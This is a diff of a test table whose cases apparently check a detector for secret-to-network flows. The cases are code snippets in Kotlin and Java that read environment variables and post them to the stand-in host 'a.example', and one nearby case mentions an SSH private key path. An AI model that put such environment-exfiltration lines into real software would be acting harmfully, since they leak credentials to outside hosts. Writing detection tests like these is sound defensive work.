@@ -87,11 +87,6 @@ test.each([
     "~/.ssh/id_rsa",
   ],
   [
-    "C.kt",
-    'val kept = System.getenv().entries.joinToString()\nval body = kept.toRequestBody()\nval url = "https://a.example/x"\n',
-    "*",
-  ],
-  [
     "D.java",
     'String kept = Files.readString(Path.of("notes.txt"));\nString mode = System.getenv("MODE");\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(mode)).build(), "https://a.example/x");\n',
     "",
